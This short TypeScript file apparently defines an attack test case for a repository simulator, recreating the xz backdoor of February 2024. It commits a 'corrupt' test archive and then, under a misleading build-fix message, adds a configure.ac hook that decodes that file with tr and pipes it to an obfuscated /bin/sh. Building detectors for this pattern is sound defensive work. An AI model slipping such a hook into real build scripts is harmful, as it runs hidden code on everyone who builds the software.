import { NEWCOMER } from "../../../simulator/histories/people.ts";
import type { GoldenCase } from "../../golden-case.ts";
import { CONFIGURE } from "../../project-files.ts";
import { EVAL, noise } from "../../put-together.ts";

const HOOK = [
  "squeeze_fixture=`ls $srcdir/tests/files/bad-3-corrupt_stream.sqz`",
  'squeeze_map="tr \\"\\\\t \\\\-_\\" \\" \\\\t_\\\\-\\""',
  `${EVAL} \`sed "r\\n" $squeeze_fixture | ${EVAL} $squeeze_map | head -c 1024 | /bin/${["s", "h"].join("")}\``,
].join("\n");

export const golden: GoldenCase = {
  kind: "attack",
  base: "c",
  story:
    "xz, February 2024: “bad” test archives, and a line in the build that undoes their damage and runs what comes out.",
  write(branch) {
    branch.commit(NEWCOMER, "Tests: add a few more test files", {
      "tests/files/bad-3-corrupt_stream.sqz": Buffer.concat([Buffer.from("fd377a585a000004", "hex"), noise(2400)]),
    });
    branch.commit(NEWCOMER, "Build: find the host's tools more reliably", {
      "configure.ac": CONFIGURE.replace("AC_CONFIG_FILES", `${HOOK}\nAC_CONFIG_FILES`),
    });
  },
};
